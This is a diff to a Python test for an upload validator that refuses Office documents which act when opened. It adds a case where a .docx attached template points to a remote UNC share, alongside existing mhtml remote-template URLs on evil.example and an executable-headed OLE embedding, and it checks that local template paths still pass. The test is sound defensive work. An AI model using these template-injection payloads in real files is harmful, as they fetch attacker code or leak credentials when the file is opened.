@@ -313,6 +313,12 @@ def test_office_files_that_act_when_opened_are_refused(ctx):
     assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/document.xml.rels": _RELS % ole}))
     template = ole.replace(b"oleObject", b"attachedTemplate").replace(b"mhtml:", b"")
     assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/settings.xml.rels": _RELS % template}))
+    share = template.replace(b"http://evil.example/x.html!x-usc:http://evil.example/x.html", b"\\\\evil\\share\\t.dotm")
+    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/settings.xml.rels": _RELS % share}))
+    # (a document made from a template on its author's disk names it so: common, and passes)
+    for local in (b"file:///C:\\Users\\zhang\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", b"D:/templates/gongwen.dotx"):
+        mine = template.replace(b"http://evil.example/x.html!x-usc:http://evil.example/x.html", local)
+        validate_uploads([Upload("a.docx", _docx({"word/_rels/settings.xml.rels": _RELS % mine}))], "files")
     assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/embeddings/oleObject1.bin": b"MZ\x90\x00"}))
     assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/activeX/activeX1.xml": b"<ax/>"}))
     assert "embedded objects" in _refused(ctx, "x.xlsx", _xlsx({"xl/externalLinks/externalLink1.xml": b"<e/>"}))
